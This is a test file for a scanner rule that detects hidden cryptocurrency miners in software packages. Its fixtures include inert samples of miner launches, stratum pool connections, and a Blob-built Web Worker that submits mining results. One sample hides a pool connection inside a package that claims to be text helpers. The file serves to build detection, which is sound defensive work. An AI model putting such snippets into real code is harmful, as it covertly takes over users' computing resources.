import { examine } from '../../../test/examine.ts';
import { minesCryptocurrency } from './mines-cryptocurrency.ts';

examine(minesCryptocurrency, {
  speaks: [
    {
      when: 'a miner is started with a pool',
      files: { 'index.js': `require('child_process').spawn('./bin/x', ['-o', 'stratum+tcp://pool.invalid:3333', '-u', 'x'])` },
      weight: 'proof',
    },
    {
      when: 'a miner is named',
      files: { 'index.js': `exports.go = () => require('child_process').exec('/tmp/xmrig --threads 2')` },
      weight: 'strong',
    },
    {
      when: 'a socket goes to a pool',
      files: { 'index.js': `require('net').connect(3333, 'stratum+tcp://pool.invalid')` },
      weight: 'proof',
    },
    {
      when: 'a worker made of a text speaks as miners do',
      files: {
        'index.mjs': `const code = \`let n = Math.random() * 2 ** 32; onmessage = () => { const ws = new WebSocket('wss://pool.invalid/proxy'); ws.onopen = () => ws.send(JSON.stringify({ identifier: 'handshake', login: 'INERT' })); ws.onmessage = m => { const j = JSON.parse(m.data); ws.send(JSON.stringify({ identifier: 'solved', job_id: j.job_id, nonce: n })); }; };\`;
          const url = URL.createObjectURL(new Blob([code], { type: 'text/javascript' })); new Worker(url).postMessage(1);`,
      },
      weight: 'strong',
      says: ['hands in results, when it is imported'],
    },
    {
      when: 'the address of a pool stands in the code, of which its page says nothing',
      files: {
        'README.md': '# words\n\nSmall helpers for words and lines of text: trim, wrap, count and title case. It has no dependencies.',
        'index.js': `const net = require('net'); exports.trim = () => { const { hostname, port } = new URL('stratum+tcp://pool.invalid:3333'.replace('stratum+tcp', 'http')); net.connect(Number(port), hostname); };`,
      },
      weight: 'strong',
    },
  ],
  silent: [
    {
      when: 'its page says that it speaks to pools',
      files: {
        'README.md': '# veins\n\nA proxy between miners and their pool, which counts the shares of each of them. It has no dependencies.',
        'index.js': `const net = require('net'); exports.start = address => { const { hostname, port } = new URL(address.replace('stratum+tcp://', 'http://')); net.connect(Number(port), hostname); };`,
      },
    },
    {
      when: 'a queue hands out jobs over a socket',
      files: {
        'index.js': `const ws = new (require('ws'))('wss://queue.invalid'); ws.on('message', m => { const { job_id } = JSON.parse(m); ws.send(JSON.stringify({ type: 'done', job_id })); });`,
      },
    },
    { when: 'a miner is only a word', files: { 'index.js': `module.exports = ['xmrig', 'stratum+tcp://pool.invalid:3333']` } },
    { when: 'another program is started', files: { 'index.js': `require('child_process').spawn('node', ['miner-docs.js'])` } },
  ],
});
